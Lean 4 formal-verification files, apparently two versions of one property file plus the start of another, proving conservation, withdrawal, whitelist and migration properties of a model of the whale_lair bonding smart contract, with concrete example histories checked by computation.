theorem whitelist_only {cfg : Cfg} {s s' : St} {e : Env} {asset : AssetRef} {x : Nat}
    {funds : List (Nat × Nat)} (h : step cfg s e (.bond asset x funds) = .ok s') :
    ∃ d, asset = .native d ∧ cfg.whitelist.contains d = true ∧ funds = [(d, x)] ∧ 0 < x := by
  obtain ⟨d, nb, ng, ha, hf, hx, -, hwl, -, -, -, -, -⟩ := bond_inv h
  exact ⟨d, ha, hwl, hf, Nat.pos_of_ne_zero hx⟩

/-- **whitelist only (state)**: after any history from instantiation every bond, every unbonding
    record and every reported bonded asset has a whitelisted denom, no unbonding record is empty,
    and what the contract holds of a denom outside the whitelist is exactly the stray coins of that
    denom (nothing of it is bonded or unbonding). -/
theorem whitelist_only_state (cfg : Cfg) (period rate : Nat) (ubal : Nat → Nat → Nat)
    (ops : List (Env × Op)) :
    let s := reach cfg (init period rate ubal) ops
    Wf cfg s ∧ ∀ d, cfg.whitelist.contains d = false → s.bal d = sumStray d s.strays := by
  intro s
  have hW : Wf cfg s := wf_reach ops (wf_init cfg period rate ubal)
  have hI : Inv s := inv_reach ops (inv_init period rate ubal)
  refine ⟨hW, fun d hd => ?_⟩
  rw [hI.bal_eq d]
  have h1 : assetAmt d s.global.assets = 0 :=
    assetAmt_zero_of_no_denom (fun p hp hpd => by
      have := hW.assets_wl p hp
      rw [hpd, hd] at this; cases this)
  have h2 : sumUnb d s.unbonds = 0 :=
    sumUnb_zero_of_no_denom (fun r hr hrd => by
      have := hW.unbonds_wl r hr
      rw [hrd, hd] at this; cases this)
  omega

/-- **one entry per storage key**: after any history from instantiation no two unbonding records
    share an (address, denom, timestamp) key and no two bonds share (address, denom) — so the
    per-key sums used in the statements above are the amounts of single entries: what the `Bonded`
    query lists for `(a, d)` is `sumBondOf a d`, and `recAmt a d ts` is the one record at that key. -/
theorem one_entry_per_key (cfg : Cfg) (period rate : Nat) (ubal : Nat → Nat → Nat)
    (ops : List (Env × Op)) :
    let s := reach cfg (init period rate ubal) ops
    s.unbonds.Pairwise DiffKey ∧ ∀ a d, sumBondOf a d s.bonds = bondedOf a d s.bonds := by
  intro s
  have hU : Uniq s := uniq_reach ops (uniq_init period rate ubal)
  exact ⟨hU.unbonds, fun a d => sumBondOf_eq_bondedOf hU.bonds⟩

/-- **a failed operation changes nothing**: an operation that errs or panics — in the bank's transfer of
    the attached coins or in the handler — leaves the state as it was, attached coins included (this is
    how `reach` treats it; the harness checks the same on the real contract). -/
theorem failed_op_unchanged (cfg : Cfg) (s : St) (e : Env) (op : Op)
    (h : ∀ s', step cfg s e op ≠ .ok s') : stepOrStay cfg s (e, op) = s := by
  unfold stepOrStay
  split
  · rename_i s' hs; exact absurd hs (h s')
  · rfl

/-- the fee-distributor guards only ever block: with a failing guard bond and unbond are errors,
    whatever is attached -/
theorem guards_only_block (cfg : Cfg) (s : St) (e : Env) (hg : e.guardsOk = false)
    (asset : AssetRef) (x : Nat) (funds : List (Nat × Nat)) :
    (∀ s', step cfg s e (.bond asset x funds) ≠ .ok s') ∧ (∀ s', step cfg s e (.unbond asset x funds) ≠ .ok s') := by
  constructor
  · intro s' h
    obtain ⟨d, nb, ng, -, -, -, -, -, hgo, -⟩ := bond_inv h
    rw [hg] at hgo; cases hgo
  · intro s' h
    obtain ⟨s1, -, hk⟩ := unbond_split h
    obtain ⟨d, b, nb, slash, nu, ng, -, -, hgo, -⟩ := unbond_inv hk
    rw [hg] at hgo; cases hgo

/-- **a migration changes nothing**: an accepted `migrate` — from whichever stored version, on either
    layout — leaves every bond, every unbonding record, the global index, the unbonding period, the
    growth rate, every balance and the stray ledger as they were. It was sent by the wasm admin from a
    LOWER stored version; from a version below 0.9.0 it ran the storage migration, which needs the 0.8.x
    layout of `config` and leaves the fee distributor address empty (`fdSet = false`); from 0.9.0 on it
    is the identity. -/
theorem migrate_changes_nothing {cfg : Cfg} {s s' : St} {e : Env} {st cr : Ver} {l : Bool}
    (h : step cfg s e (.migrate st cr l) = .ok s') :
    s'.bonds = s.bonds ∧ s'.unbonds = s.unbonds ∧ s'.global = s.global ∧ s'.gset = s.gset ∧
    s'.period = s.period ∧ s'.rate = s.rate ∧ s'.bal = s.bal ∧ s'.ubal = s.ubal ∧ s'.strays = s.strays ∧
    s'.fdSet = (s.fdSet && !st.lt V090) ∧
    e.sender = cfg.admin ∧ st.lt cr = true ∧ (st.lt V090 = true → l = true) ∧ (st.lt V090 = false → s' = s) := by
  obtain ⟨ha, hv, ⟨h9, hl, rfl⟩ | ⟨h9, rfl⟩⟩ := migrate_inv h
  · exact ⟨rfl, rfl, rfl, rfl, rfl, rfl, rfl, rfl, rfl, by simp [h9], ha, hv, fun _ => hl, fun hc => (by rw [h9] at hc; cases hc)⟩
  · exact ⟨rfl, rfl, rfl, rfl, rfl, rfl, rfl, rfl, rfl, by simp [h9], ha, hv, fun hc => (by rw [h9] at hc; cases hc), fun _ => rfl⟩

/-- **what a migration refuses**: anybody but the wasm admin; a stored version equal to or higher than
    the crate's; a stored version below 0.9.0 when `config` is in the layout every release since 0.9.0
    writes (`ConfigV080` does not parse it). A refused migration changes nothing (`failed_op_unchanged`). -/
theorem migrate_refusals (cfg : Cfg) (s : St) (e : Env) (st cr : Ver) (l : Bool) :
    (e.sender ≠ cfg.admin → ∀ s', step cfg s e (.migrate st cr l) ≠ .ok s') ∧
    (st.lt cr = false → ∀ s', step cfg s e (.migrate st cr l) ≠ .ok s') ∧
    (st.lt V090 = true → l = false → ∀ s', step cfg s e (.migrate st cr l) ≠ .ok s') := by
  refine ⟨fun hne s' h => ?_, fun hv s' h => ?_, fun h9 hl s' h => ?_⟩
  · exact hne (migrate_inv h).1
  · have := (migrate_inv h).2.1; rw [hv] at this; cases this
  · obtain ⟨-, -, ⟨-, hl', -⟩ | ⟨h9', -⟩⟩ := migrate_inv h
    · rw [hl] at hl'; cases hl'
    · rw [h9] at h9'; cases h9'

/-! ### non-vacuity: concrete histories and the model's exact output on them -/

/-- two whitelisted denoms 0 and 1, owner 9 -/
def cfgEx : Cfg := { whitelist := [0, 1], owner := 9, genesis := 0, epochDur := 86400000000000 }
/-- period 1000 ns, growth rate 1.0, every account holds 1 000 000 of every denom -/
def s0Ex : St := init 1000 E18 (fun _ _ => 1000000)
def t0 : Nat := 1700000000000000000

/-- user 0 bonds 1000, unbonds 300 and 200 in the same block (one record of 500: the fixed
    behaviour), user 1 bonds 70 of denom 1, a premature withdraw fails, and at `t0 + period`
    user 0 withdraws the 500 -/
def histEx : List (Env × Op) :=
  [ (⟨t0, 0, true⟩, .bond (.native 0) 1000 [(0, 1000)]),
    (⟨t0, 0, true⟩, .unbond (.native 0) 300 []),
    (⟨t0, 0, true⟩, .unbond (.native 0) 200 []),
    (⟨t0, 1, true⟩, .bond (.native 1) 70 [(1, 70)]),
    (⟨t0 + 999, 0, true⟩, .withdraw 0 []),
    (⟨t0 + 1000, 0, true⟩, .withdraw 0 []) ]

example : (let s := reach cfgEx s0Ex (histEx.take 4)
    (s.bal 0, sumBond 0 s.bonds, sumUnb 0 s.unbonds, recAmt 0 0 t0 s.unbonds, s.global.bonded, s.ubal 0 0))
    = (1000, 500, 500, 500, 570, 999000) := by decide

example : (let s := reach cfgEx s0Ex histEx
    (s.bal 0, sumBond 0 s.bonds, sumUnb 0 s.unbonds, s.bal 1, s.global.bonded, s.ubal 0 0, s.unbonds.length))
    = (500, 500, 0, 70, 570, 999500, 0) := by decide

/-- the premature withdraw (1 ns before the period has elapsed) is rejected -/
example : (match step cfgEx (reach cfgEx s0Ex (histEx.take 4)) ⟨t0 + 999, 0, true⟩ (.withdraw 0 []) with
    | .err => true | _ => false) = true := by decide

/-- the hypotheses of `matured_withdraw_succeeds` are met by the record of user 0 at `t0 + 1000` -/
example : (let s := reach cfgEx s0Ex (histEx.take 4)
    let r : UnbRec := ⟨0, 0, t0, 500⟩
    decide (r ∈ s.unbonds) && decide (rank 0 0 s.unbonds r < Gen.LAIR_MAX_PAGE_LIMIT)
      && decide (r.ts + s.period ≤ t0 + 1000) && decide (s.ubal 0 0 + s.bal 0 ≤ U128MAX)) = true := by decide

/-- non-whitelisted denom, token asset, two coins and a zero amount are all rejected -/
example : (([ Op.bond (.native 2) 5 [(2, 5)], .bond .token 5 [(0, 5)], .bond (.native 0) 5 [(0, 5), (1, 5)],
              .bond (.native 0) 0 [(0, 0)], .bond (.native 0) 5 [], .unbond (.native 0) 0 [],
              .unbond (.native 0) 5 [], .withdraw 0 [] ] : List Op).all fun op =>
      match step cfgEx s0Ex ⟨t0, 0, true⟩ op with
      | .err => true
      | _ => false) = true := by decide

/-- with a period longer than the block time, withdraw with a pending record panics
    (`Timestamp::minus_nanos` underflow), as the real contract does -/
example : (match step cfgEx
      (reach cfgEx (init (t0 + 5) E18 (fun _ _ => 1000000)) (histEx.take 2)) ⟨t0 + 1, 0, true⟩ (.withdraw 0 []) with
    | .panic => true | _ => false) = true := by decide



/-- **with stray coins**: user 0 bonds 1000 and unbonds 500 with 7 of denom 1 attached; user 1 sends 40
    of the non-whitelisted denom 2 plainly; the owner updates the period (to the same value) with 3 of
    denom 0 attached; at `t0 + 1000` user 0 withdraws denom 0 with 500 of denom 0 attached — as much as
    the record about to be paid. The contract then holds 500 bonded + 0 unbonding + 503 stray of denom 0,
    7 stray of denom 1, 40 stray of denom 2; user 0 is paid the 500 of the record and not the 500 it
    attached (wallet 1 000 000 − 1000 + 500 − 500). -/
def histStray : List (Env × Op) :=
  [ (⟨t0, 0, true⟩, .bond (.native 0) 1000 [(0, 1000)]),
    (⟨t0, 0, true⟩, .unbond (.native 0) 500 [(1, 7)]),
    (⟨t0, 1, true⟩, .send [(2, 40)]),
    (⟨t0, 9, true⟩, .config (some 1000) none [(0, 3)]),
    (⟨t0 + 1000, 0, true⟩, .withdraw 0 [(0, 500)]) ]

example : (let s := reach cfgEx s0Ex histStray
    (s.bal 0, sumBond 0 s.bonds, sumUnb 0 s.unbonds, sumStray 0 s.strays))
    = (1003, 500, 0, 503) := by decide

example : (let s := reach cfgEx s0Ex histStray
    (s.bal 1, sumStray 1 s.strays, s.bal 2, sumStray 2 s.strays, s.global.bonded))
    = (7, 7, 40, 40, 500) := by decide

example : (let s := reach cfgEx s0Ex histStray
    (s.ubal 0 0, s.ubal 0 1, s.ubal 1 2, s.ubal 9 0, sumStrayOf 0 0 s.strays, sumStrayOf 9 0 s.strays, s.strays.length))
    = (999000, 999993, 999960, 999997, 500, 3, 4) := by decide

/-- more coins attached than the sender holds, a single zero coin, an empty plain transfer: refused by
    the bank, whatever the handler would have done -/
example : (([ Op.withdraw 0 [(0, 1000001)], .withdraw 0 [(1, 0)], .send [], .send [(2, 0)],
              .config none none [(2, 1000001)] ] : List Op).all fun op =>
      match step cfgEx (reach cfgEx s0Ex (histStray.take 4)) ⟨t0 + 1000, 9, true⟩ op with
      | .err => true
      | _ => false) = true := by decide

/-- migrations on the state of `histStray` (crate 0.9.2, admin = owner 9): accepted from 0.9.1 and 0.9.0
    and from 0.8.0 on the 0.8.x layout, leaving every ledger as it was (the last one empties the fee
    distributor address); refused from 0.9.2, 0.9.3, 1.0.0, from 0.8.0 on the current layout, and from
    0.9.1 when somebody else sends it -/
example : (let s := reach cfgEx s0Ex histStray
    let e : Env := ⟨t0 + 2000, 9, true⟩
    let same (r : Res St) (fd : Bool) : Bool := match r with
      | .ok s' => decide (s'.bonds = s.bonds) && decide (s'.unbonds = s.unbonds) && decide (s'.global = s.global)
          && decide (s'.strays = s.strays) && decide (s'.period = s.period) && decide (s'.bal 0 = s.bal 0)
          && decide (s'.ubal 0 0 = s.ubal 0 0) && decide (s'.fdSet = fd)
      | _ => false
    let refused (r : Res St) : Bool := match r with
      | .err => true
      | _ => false
    same (step cfgEx s e (.migrate ⟨0, 9, 1⟩ ⟨0, 9, 2⟩ false)) true
      && same (step cfgEx s e (.migrate ⟨0, 9, 0⟩ ⟨0, 9, 2⟩ false)) true
      && same (step cfgEx s e (.migrate ⟨0, 8, 0⟩ ⟨0, 9, 2⟩ true)) false
      && refused (step cfgEx s e (.migrate ⟨0, 9, 2⟩ ⟨0, 9, 2⟩ false))
      && refused (step cfgEx s e (.migrate ⟨0, 9, 3⟩ ⟨0, 9, 2⟩ false))
      && refused (step cfgEx s e (.migrate ⟨1, 0, 0⟩ ⟨0, 9, 2⟩ false))
      && refused (step cfgEx s e (.migrate ⟨0, 8, 0⟩ ⟨0, 9, 2⟩ false))
      && refused (step cfgEx s ⟨t0 + 2000, 0, true⟩ (.migrate ⟨0, 9, 1⟩ ⟨0, 9, 2⟩ false))) = true := by decide

/-- **the `first_bonded_epoch_id` the lair reports brackets the bond time**: `calculate_epoch(t) = fb`
    (the `Bonded` query applies it to the address's earliest bond timestamp) means
    `genesis + (fb − 1)·duration ≤ t < genesis + fb·duration` (and `t < genesis` for `fb = 0`). This is
    exactly the hypothesis `bondTime < genesis + fb · duration` that `WW.C09.not_before_bonding_time`
    takes from the lair: epochs `> fb`, the only ones a never-claimed address is paid for, start after
    the bond. -/
theorem first_bonded_epoch_brackets_bond_time {cfg : Lair.Cfg} {t fb : Nat} (h : Lair.calcEpoch cfg t = .ok fb) :
    t < cfg.genesis + fb * cfg.epochDur ∧ (1 ≤ fb → cfg.genesis + (fb - 1) * cfg.epochDur ≤ t) :=
  ⟨Lair.calcEpoch_lt h, Lair.calcEpoch_ge h⟩

end WW.C08
