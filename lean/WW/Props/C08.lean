/-
  C08 — Bonding: every bonded token is bonded, unbonding, or back with its owner.
  Property theorems only (helpers live in WW/Proofs/Lair.lean). The model `WW.Lair` is the replica
  of `contracts/liquidity_hub/whale_lair` (bond / unbond / withdraw / update_config, with the
  same-timestamp accumulation fix of `unbond`) plus the bank effects of its messages; it is tied to
  the Rust by the `lair` correspondence engine (real whale_lair + real fee_distributor in
  cw-multi-test).

  Quantifiers: every theorem holds for all configurations (any whitelist, period, growth rate), all
  states satisfying the stated invariant (in particular the state after instantiation), all users
  and denoms (`Nat` ids, not a fixed cast), all block times — also equal or decreasing ones, no
  monotonicity is needed — and all histories `List (Env × Op)` (induction over the list; failed
  operations leave the state unchanged).

  Assumptions (also in tools/checks/C08.json):
  * the two fee-distributor guards of bond/unbond (`validate_claimed`,
    `validate_bonding_for_current_epoch`) are the environment input `Env.guardsOk`; the theorems
    hold for every value of it on every operation (a failing guard is a failed operation);
  * tokens reach the contract only as the funds of `bond`: no plain bank transfer to the contract
    and no funds attached to `unbond` / `withdraw` / `update_config` (such a donation would make
    the contract balance exceed bonded + unbonding by the donated amount);
  * ownership transfer and `fee_distributor_addr` changes of `update_config` are not modelled.
-/
import WW.Proofs.Lair
import WW.Proofs.LairEpoch
namespace WW.C08
open WW WW.Lair

/-- **conservation**: after any history, for every denom the contract's bank balance equals the
    amount reported as bonded (`TotalBonded.bonded_assets`) plus all pending unbondings — and the
    reported amount is the sum of the users' bonds, so the balance is also Σ bonds + Σ unbondings. -/
theorem conservation (cfg : Cfg) (s₀ : St) (h₀ : Inv s₀) (ops : List (Env × Op)) (d : Nat) :
    let s := reach cfg s₀ ops
    s.bal d = assetAmt d s.global.assets + sumUnb d s.unbonds ∧
    s.bal d = sumBond d s.bonds + sumUnb d s.unbonds := by
  intro s
  have hI : Inv s := inv_reach ops h₀
  exact ⟨hI.bal_eq d, by rw [hI.bal_eq d, hI.asset_eq d]⟩

/-- conservation for every history that starts right after instantiation -/
theorem conservation_from_init (cfg : Cfg) (period rate : Nat) (ubal : Nat → Nat → Nat)
    (ops : List (Env × Op)) (d : Nat) :
    let s := reach cfg (init period rate ubal) ops
    s.bal d = assetAmt d s.global.assets + sumUnb d s.unbonds ∧
    s.bal d = sumBond d s.bonds + sumUnb d s.unbonds :=
  conservation cfg _ (inv_init period rate ubal) ops d

/-- **global = Σ users**: after any history the global bonded total (`GlobalIndex.bonded_amount`,
    `TotalBonded.total_bonded`) equals the sum of all users' bonds, and per denom the reported
    `bonded_assets` entry equals the sum of the users' bonds of that denom. -/
theorem global_eq_sum (cfg : Cfg) (s₀ : St) (h₀ : Inv s₀) (ops : List (Env × Op)) :
    let s := reach cfg s₀ ops
    s.global.bonded = sumBondAll s.bonds ∧ ∀ d, assetAmt d s.global.assets = sumBond d s.bonds := by
  intro s
  have hI : Inv s := inv_reach ops h₀
  exact ⟨hI.bonded_eq, hI.asset_eq⟩

/-- **bonded, unbonding, or back with its owner**: for every user and denom, wallet + bonded +
    unbonding is the same after any history as before it. -/
theorem user_tokens_conserved (cfg : Cfg) (s₀ : St) (ops : List (Env × Op)) (a d : Nat) :
    let s := reach cfg s₀ ops
    s.ubal a d + sumBondOf a d s.bonds + sumUnbOf a d s.unbonds
      = s₀.ubal a d + sumBondOf a d s₀.bonds + sumUnbOf a d s₀.unbonds :=
  userTotal_reach ops s₀ a d

/-- **unbond enters the record**: a successful unbond of `x` adds exactly `x` to the record keyed
    (sender, denom, block time) — on top of what is already there when several unbondings share a
    block time —, changes no other record, lowers the sender's bond by `x` and moves no tokens. -/
theorem unbond_enters_record {cfg : Cfg} {s s' : St} {e : Env} {d x : Nat}
    (h : step cfg s e (.unbond (.native d) x) = .ok s') :
    (∀ a' d' t', recAmt a' d' t' s'.unbonds
        = recAmt a' d' t' s.unbonds + (if a' = e.sender ∧ d' = d ∧ t' = e.now then x else 0)) ∧
    (∀ a' d', sumBondOf a' d' s'.bonds + (if a' = e.sender ∧ d' = d then x else 0) = sumBondOf a' d' s.bonds) ∧
    s'.bal = s.bal ∧ s'.ubal = s.ubal :=
  ⟨unbond_recAmt h, fun a' d' => (unbond_bonded h a' d').1, (unbond_bonded h 0 0).2.1, (unbond_bonded h 0 0).2.2⟩

/-- **paid to the owner, in full**: a successful withdraw pays the sender, from the contract's
    balance of that denom, exactly the sum `refundOf` of the records it removes (which is positive);
    the sender's pending total drops by the same amount; nobody else's wallet, no other denom, no
    bond and no global total changes. -/
theorem withdraw_pays_removed {cfg : Cfg} {s s' : St} {e : Env} {d : Nat}
    (h : step cfg s e (.withdraw d) = .ok s') :
    0 < refundOf s e d ∧
    s'.ubal e.sender d = s.ubal e.sender d + refundOf s e d ∧
    s'.bal d + refundOf s e d = s.bal d ∧
    (∀ a' d', ¬ (a' = e.sender ∧ d' = d) → s'.ubal a' d' = s.ubal a' d') ∧
    (∀ d', d' ≠ d → s'.bal d' = s.bal d') ∧
    s'.bonds = s.bonds ∧ s'.global = s.global ∧
    sumUnbOf e.sender d s'.unbonds + refundOf s e d = sumUnbOf e.sender d s.unbonds :=
  withdraw_effect h

/-- **only its owner, only after the period**: a record that a successful withdraw removes belongs
    to the sender and the withdrawn denom, and its unbonding period has elapsed
    (`now ≥ timestamp + period`); records of every other (address, denom) are untouched. -/
theorem withdraw_only_owner_after_period {cfg : Cfg} {s s' : St} {e : Env} {d : Nat}
    (h : step cfg s e (.withdraw d) = .ok s') :
    (∀ r ∈ s.unbonds, r ∉ s'.unbonds → r.addr = e.sender ∧ r.denom = d ∧ r.ts + s.period ≤ e.now) ∧
    (∀ a' d' t', ¬ (a' = e.sender ∧ d' = d) → recAmt a' d' t' s'.unbonds = recAmt a' d' t' s.unbonds) :=
  ⟨fun _ hr hr' => withdraw_removed h hr hr', fun a' d' t' hk => withdraw_other_keys h a' d' t' hk⟩

/-- **exactly once**: after the withdraw that paid it, nothing is recorded any more at the key of
    a paid record (so no later withdraw can pay it again), and every surviving record was there
    before and was not due. Together with `withdraw_pays_removed` (paid = Σ removed) and
    `user_tokens_conserved` this is "paid out exactly once". -/
theorem paid_record_is_gone {cfg : Cfg} {s s' : St} {e : Env} {d : Nat}
    (h : step cfg s e (.withdraw d) = .ok s') :
    (∀ r, matured e.sender d e.now s.period s.unbonds r = true → recAmt r.addr r.denom r.ts s'.unbonds = 0) ∧
    (∀ r ∈ s'.unbonds, r ∈ s.unbonds ∧ matured e.sender d e.now s.period s.unbonds r = false) :=
  ⟨fun _ hm => withdraw_key_cleared h hm, fun _ hr => withdraw_kept h hr⟩

/-- **a wallet grows only through its owner's own withdraw**: whatever the operation and whoever
    sends it, if user `a`'s wallet of denom `d` is larger afterwards, then the operation was a
    withdraw of `d` sent by `a`. -/
theorem wallet_grows_only_by_own_withdraw {cfg : Cfg} {s s' : St} {e : Env} {op : Op} {a d : Nat}
    (h : step cfg s e op = .ok s') (hg : s.ubal a d < s'.ubal a d) :
    e.sender = a ∧ op = .withdraw d := by
  cases op with
  | bond asset x funds =>
    obtain ⟨d0, nb, ng, -, -, -, hx, -, -, -, -, -, rfl⟩ := bond_inv h
    simp only at hg
    split at hg
    · rename_i hk; obtain ⟨rfl, rfl⟩ := hk; omega
    · omega
  | unbond asset x =>
    obtain ⟨d0, b, nb, slash, nu, ng, -, -, -, -, -, -, -, -, rfl⟩ := unbond_inv h
    simp only at hg; omega
  | withdraw d0 =>
    obtain ⟨-, -, -, -, -, rfl⟩ := withdraw_inv h
    simp only at hg
    split at hg
    · rename_i hk; obtain ⟨rfl, rfl⟩ := hk; exact ⟨rfl, rfl⟩
    · omega
  | config p r =>
    obtain ⟨-, p', r', rfl⟩ := config_inv h
    simp only at hg; omega

/-- **becomes withdrawable in full**: in any state satisfying the ledger invariant, a record of
    user `a` whose period has elapsed at `now` and which is among the first `MAX_PAGE_LIMIT`
    records of `(a, d)` (always the case with at most 30 pending records) makes `a`'s withdraw
    succeed — whatever the guards say —, removes the record and pays at least its amount.
    `hsupply`: the bank's supply of the denom fits `u128`. -/
theorem matured_withdraw_succeeds {cfg : Cfg} {s : St} {a d now : Nat} {g : Bool} {r : UnbRec}
    (hI : Inv s) (hW : Wf cfg s) (hr : r ∈ s.unbonds) (ha : r.addr = a) (hd : r.denom = d)
    (hrank : rank a d s.unbonds r < Gen.LAIR_MAX_PAGE_LIMIT)
    (hmat : r.ts + s.period ≤ now)
    (hsupply : s.ubal a d + s.bal d ≤ U128MAX) :
    ∃ s', step cfg s ⟨now, a, g⟩ (.withdraw d) = .ok s' ∧ r ∉ s'.unbonds ∧
      s.ubal a d + r.amount ≤ s'.ubal a d :=
  withdraw_succeeds hI hr ha hd (hW.unbonds_pos r hr) hrank hmat hsupply

/-- **whitelist only (acceptance)**: a bond is accepted only for a native asset whose denom is in
    the configured whitelist, with exactly one coin of that denom and that positive amount attached. -/
theorem whitelist_only {cfg : Cfg} {s s' : St} {e : Env} {asset : AssetRef} {x : Nat}
    {funds : List (Nat × Nat)} (h : step cfg s e (.bond asset x funds) = .ok s') :
    ∃ d, asset = .native d ∧ cfg.whitelist.contains d = true ∧ funds = [(d, x)] ∧ 0 < x := by
  obtain ⟨d, nb, ng, ha, hf, hx, -, hwl, -, -, -, -, -⟩ := bond_inv h
  exact ⟨d, ha, hwl, hf, Nat.pos_of_ne_zero hx⟩

/-- **whitelist only (state)**: after any history from instantiation every bond, every unbonding
    record and every reported bonded asset has a whitelisted denom, no unbonding record is empty,
    and the contract holds nothing of a denom outside the whitelist. -/
theorem whitelist_only_state (cfg : Cfg) (period rate : Nat) (ubal : Nat → Nat → Nat)
    (ops : List (Env × Op)) :
    let s := reach cfg (init period rate ubal) ops
    Wf cfg s ∧ ∀ d, cfg.whitelist.contains d = false → s.bal d = 0 := by
  intro s
  have hW : Wf cfg s := wf_reach ops (wf_init cfg period rate ubal)
  have hI : Inv s := inv_reach ops (inv_init period rate ubal)
  refine ⟨hW, fun d hd => ?_⟩
  rw [hI.bal_eq d]
  have h1 : assetAmt d s.global.assets = 0 :=
    assetAmt_zero_of_no_denom (fun p hp hpd => by
      have := hW.assets_wl p hp
      rw [hpd, hd] at this; cases this)
  have h2 : sumUnb d s.unbonds = 0 :=
    sumUnb_zero_of_no_denom (fun r hr hrd => by
      have := hW.unbonds_wl r hr
      rw [hrd, hd] at this; cases this)
  omega

/-- **one entry per storage key**: after any history from instantiation no two unbonding records
    share an (address, denom, timestamp) key and no two bonds share (address, denom) — so the
    per-key sums used in the statements above are the amounts of single entries: what the `Bonded`
    query lists for `(a, d)` is `sumBondOf a d`, and `recAmt a d ts` is the one record at that key. -/
theorem one_entry_per_key (cfg : Cfg) (period rate : Nat) (ubal : Nat → Nat → Nat)
    (ops : List (Env × Op)) :
    let s := reach cfg (init period rate ubal) ops
    s.unbonds.Pairwise DiffKey ∧ ∀ a d, sumBondOf a d s.bonds = bondedOf a d s.bonds := by
  intro s
  have hU : Uniq s := uniq_reach ops (uniq_init period rate ubal)
  exact ⟨hU.unbonds, fun a d => sumBondOf_eq_bondedOf hU.bonds⟩

/-- **a failed operation changes nothing**: an operation that errs or panics leaves the state as
    it was (this is how `reach` treats it; the harness checks the same on the real contract). -/
theorem failed_op_unchanged (cfg : Cfg) (s : St) (e : Env) (op : Op)
    (h : ∀ s', step cfg s e op ≠ .ok s') : stepOrStay cfg s (e, op) = s := by
  unfold stepOrStay
  split
  · rename_i s' hs; exact absurd hs (h s')
  · rfl

/-- the fee-distributor guards only ever block: with a failing guard bond and unbond are errors -/
theorem guards_only_block (cfg : Cfg) (s : St) (e : Env) (hg : e.guardsOk = false)
    (asset : AssetRef) (x : Nat) (funds : List (Nat × Nat)) :
    (∀ s', step cfg s e (.bond asset x funds) ≠ .ok s') ∧ (∀ s', step cfg s e (.unbond asset x) ≠ .ok s') := by
  constructor
  · intro s' h
    obtain ⟨d, nb, ng, -, -, -, -, -, hgo, -⟩ := bond_inv h
    rw [hg] at hgo; cases hgo
  · intro s' h
    obtain ⟨d, b, nb, slash, nu, ng, -, -, hgo, -⟩ := unbond_inv h
    rw [hg] at hgo; cases hgo

/-! ### non-vacuity: concrete histories and the model's exact output on them -/

/-- two whitelisted denoms 0 and 1, owner 9 -/
def cfgEx : Cfg := { whitelist := [0, 1], owner := 9, genesis := 0, epochDur := 86400000000000 }
/-- period 1000 ns, growth rate 1.0, every account holds 1 000 000 of every denom -/
def s0Ex : St := init 1000 E18 (fun _ _ => 1000000)
def t0 : Nat := 1700000000000000000

/-- user 0 bonds 1000, unbonds 300 and 200 in the same block (one record of 500: the fixed
    behaviour), user 1 bonds 70 of denom 1, a premature withdraw fails, and at `t0 + period`
    user 0 withdraws the 500 -/
def histEx : List (Env × Op) :=
  [ (⟨t0, 0, true⟩, .bond (.native 0) 1000 [(0, 1000)]),
    (⟨t0, 0, true⟩, .unbond (.native 0) 300),
    (⟨t0, 0, true⟩, .unbond (.native 0) 200),
    (⟨t0, 1, true⟩, .bond (.native 1) 70 [(1, 70)]),
    (⟨t0 + 999, 0, true⟩, .withdraw 0),
    (⟨t0 + 1000, 0, true⟩, .withdraw 0) ]

example : (let s := reach cfgEx s0Ex (histEx.take 4)
    (s.bal 0, sumBond 0 s.bonds, sumUnb 0 s.unbonds, recAmt 0 0 t0 s.unbonds, s.global.bonded, s.ubal 0 0))
    = (1000, 500, 500, 500, 570, 999000) := by decide

example : (let s := reach cfgEx s0Ex histEx
    (s.bal 0, sumBond 0 s.bonds, sumUnb 0 s.unbonds, s.bal 1, s.global.bonded, s.ubal 0 0, s.unbonds.length))
    = (500, 500, 0, 70, 570, 999500, 0) := by decide

/-- the premature withdraw (1 ns before the period has elapsed) is rejected -/
example : (match step cfgEx (reach cfgEx s0Ex (histEx.take 4)) ⟨t0 + 999, 0, true⟩ (.withdraw 0) with
    | .err => true | _ => false) = true := by decide

/-- the hypotheses of `matured_withdraw_succeeds` are met by the record of user 0 at `t0 + 1000` -/
example : (let s := reach cfgEx s0Ex (histEx.take 4)
    let r : UnbRec := ⟨0, 0, t0, 500⟩
    decide (r ∈ s.unbonds) && decide (rank 0 0 s.unbonds r < Gen.LAIR_MAX_PAGE_LIMIT)
      && decide (r.ts + s.period ≤ t0 + 1000) && decide (s.ubal 0 0 + s.bal 0 ≤ U128MAX)) = true := by decide

/-- non-whitelisted denom, token asset, two coins and a zero amount are all rejected -/
example : (([ Op.bond (.native 2) 5 [(2, 5)], .bond .token 5 [(0, 5)], .bond (.native 0) 5 [(0, 5), (1, 5)],
              .bond (.native 0) 0 [(0, 0)], .bond (.native 0) 5 [], .unbond (.native 0) 0,
              .unbond (.native 0) 5, .withdraw 0 ] : List Op).all fun op =>
      match step cfgEx s0Ex ⟨t0, 0, true⟩ op with
      | .err => true
      | _ => false) = true := by decide

/-- with a period longer than the block time, withdraw with a pending record panics
    (`Timestamp::minus_nanos` underflow), as the real contract does -/
example : (match step cfgEx
      (reach cfgEx (init (t0 + 5) E18 (fun _ _ => 1000000)) (histEx.take 2)) ⟨t0 + 1, 0, true⟩ (.withdraw 0) with
    | .panic => true | _ => false) = true := by decide


/-- **the `first_bonded_epoch_id` the lair reports brackets the bond time**: `calculate_epoch(t) = fb`
    (the `Bonded` query applies it to the address's earliest bond timestamp) means
    `genesis + (fb − 1)·duration ≤ t < genesis + fb·duration` (and `t < genesis` for `fb = 0`). This is
    exactly the hypothesis `bondTime < genesis + fb · duration` that `WW.C09.not_before_bonding_time`
    takes from the lair: epochs `> fb`, the only ones a never-claimed address is paid for, start after
    the bond. -/
theorem first_bonded_epoch_brackets_bond_time {cfg : Lair.Cfg} {t fb : Nat} (h : Lair.calcEpoch cfg t = .ok fb) :
    t < cfg.genesis + fb * cfg.epochDur ∧ (1 ≤ fb → cfg.genesis + (fb - 1) * cfg.epochDur ≤ t) :=
  ⟨Lair.calcEpoch_lt h, Lair.calcEpoch_ge h⟩

end WW.C08
