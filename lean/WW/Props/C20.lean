/-
  C20 — Epoch clocks only move forward, one epoch at a time, never early.
  Property theorems only (helpers live in WW/Proofs/Epoch.lean).  The models `Epoch.Mgr` (epoch manager) and
  `Epoch.Dist` (clock of the fee distributor) are in WW/Model/Epoch.lean; they are tied to the Rust by the
  `epochs` correspondence engine (real epoch-manager with recording hook contracts, real
  fee_distributor + fee_collector + whale_lair stack).

